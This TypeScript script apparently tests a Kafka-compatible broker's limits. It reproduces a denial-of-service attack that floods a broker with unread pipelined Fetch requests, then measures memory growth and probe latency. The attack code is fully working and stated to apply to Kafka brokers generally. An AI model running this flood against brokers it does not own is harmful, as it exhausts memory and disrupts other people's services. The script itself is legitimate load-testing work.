/**
 * The pipelined-Fetch attack of issue 19 (docs/limits.md), against any broker (Krill or Kafka):
 * a topic holding 1 MB, then `connections` sockets that each send `requests` Fetch v12 requests
 * (max_bytes 1 MiB, from offset 0) at once and never read a response. Meanwhile the broker's
 * resident memory is sampled from /proc and another client times an ApiVersions round trip
 * every 100 ms. Prints idle, peak and after-close RSS and the slowest ApiVersions answer.
 *
 *   tsx scripts/attack-fetch-pipeline.ts HOST:PORT BROKER_PID [seconds=20] [connections=6] [requests=10000]
 */
import { readFileSync } from "node:fs";
import net from "node:net";
import { Kafka, logLevel } from "kafkajs";
import { defaultApiVersionsRequest } from "../src/protocol/generated/api-versions-request.js";
import { API_VERSIONS_API, FETCH_API } from "../src/protocol/generated/apis.js";
import {
  defaultFetchRequest,
  defaultFetchRequestFetchPartition,
  defaultFetchRequestFetchTopic,
} from "../src/protocol/generated/fetch-request.js";
import { Writer } from "../src/protocol/primitives/writer.js";

const [bootstrap, pidText, secondsText = "20", connectionsText = "6", requestsText = "10000"] =
  process.argv.slice(2);
if (bootstrap === undefined || pidText === undefined) {
  console.error(
    "usage: tsx scripts/attack-fetch-pipeline.ts HOST:PORT BROKER_PID [seconds] [connections] [requests]",
  );
  process.exit(2);
}
const [host, portText] = bootstrap.split(":") as [string, string];
const port = Number(portText);
const pid = Number(pidText);
const seconds = Math.min(600, Number(secondsText));
const connections = Math.min(64, Number(connectionsText));
const requests = Math.min(100_000, Number(requestsText));
const TOPIC = "attack-fetch";
const MiB = 1 << 20;

function rssMiB(): number {
  const status = readFileSync(`/proc/${pid}/status`, "utf8");
  const kb = Number(/VmRSS:\s+(\d+)/.exec(status)?.[1] ?? Number.NaN);
  return kb / 1024;
}

function frame<Req>(
  api: {
    apiKey: number;
    requestHeaderVersion(v: number): number;
    encodeRequest(w: Writer, r: Req, v: number): void;
  },
  version: number,
  id: number,
  body: Req,
): Buffer {
  const w = new Writer();
  w.writeInt32(0);
  w.writeInt16(api.apiKey);
  w.writeInt16(version);
  w.writeInt32(id);
  w.writeNullableString("attack");
  if (api.requestHeaderVersion(version) >= 2) w.writeUnsignedVarint(0);
  api.encodeRequest(w, body, version);
  const out = w.finish();
  out.writeInt32BE(out.length - 4, 0);
  return out;
}

const kafka = new Kafka({ brokers: [bootstrap], logLevel: logLevel.NOTHING });
const admin = kafka.admin();
await admin.connect();
await admin.createTopics({ topics: [{ topic: TOPIC, numPartitions: 1 }] }).catch(() => false);
await admin.disconnect();
const producer = kafka.producer();
await producer.connect();
const value = Buffer.alloc(64 * 1024, 7);
for (let i = 0; i < 16; i++) await producer.send({ topic: TOPIC, messages: [{ value }] });
await producer.disconnect();
await new Promise((r) => setTimeout(r, 2000));

const fetchFrame = frame(FETCH_API, 12, 1, {
  ...defaultFetchRequest(),
  maxWaitMs: 0,
  maxBytes: MiB,
  topics: [
    {
      ...defaultFetchRequestFetchTopic(),
      topic: TOPIC,
      partitions: [
        { ...defaultFetchRequestFetchPartition(), partition: 0, fetchOffset: 0n, partitionMaxBytes: MiB },
      ],
    },
  ],
});
const burst = Buffer.concat(Array.from({ length: requests }, () => fetchFrame));

// The probe: ApiVersions v3 every 100 ms on its own connection, timed.
const probe = net.connect(port, host);
await new Promise<void>((resolve) => probe.once("connect", () => resolve()));
let probeSent = 0;
let probeSlowestMs = 0;
let waitingSince: number | undefined;
const slowProbes: { atMs: number; ms: number }[] = [];
probe.on("data", () => {
  if (waitingSince !== undefined) {
    const ms = performance.now() - waitingSince;
    probeSlowestMs = Math.max(probeSlowestMs, ms);
    if (ms > 250) slowProbes.push({ atMs: Math.round(waitingSince - started), ms: Math.round(ms) });
  }
  waitingSince = undefined;
});
const probeFrame = frame(API_VERSIONS_API, 3, 2, {
  ...defaultApiVersionsRequest(),
  clientSoftwareName: "probe",
  clientSoftwareVersion: "1",
});

let started = performance.now();
const idle = rssMiB();
let peak = idle;
const attackers: net.Socket[] = [];
for (let i = 0; i < connections; i++) {
  const s = net.connect(port, host);
  s.on("error", () => {});
  s.pause(); // never read a response
  s.write(burst);
  attackers.push(s);
}
started = performance.now();
while (performance.now() - started < seconds * 1000) {
  await new Promise((r) => setTimeout(r, 100));
  peak = Math.max(peak, rssMiB());
  if (waitingSince === undefined) {
    waitingSince = performance.now();
    probeSent++;
    probe.write(probeFrame);
  } else {
    probeSlowestMs = Math.max(probeSlowestMs, performance.now() - waitingSince);
  }
}
for (const s of attackers) s.destroy();
await new Promise((r) => setTimeout(r, 5000));
const after = rssMiB();
probe.destroy();
console.log(
  JSON.stringify({
    connections,
    requestsPerConnection: requests,
    seconds,
    rssIdleMiB: Math.round(idle),
    rssPeakMiB: Math.round(peak),
    rssPeakAboveIdleMiB: Math.round(peak - idle),
    rss5sAfterCloseMiB: Math.round(after),
    probeApiVersionsSent: probeSent,
    probeSlowestMs: Math.round(probeSlowestMs),
    slowProbes: slowProbes.slice(0, 10),
  }),
);
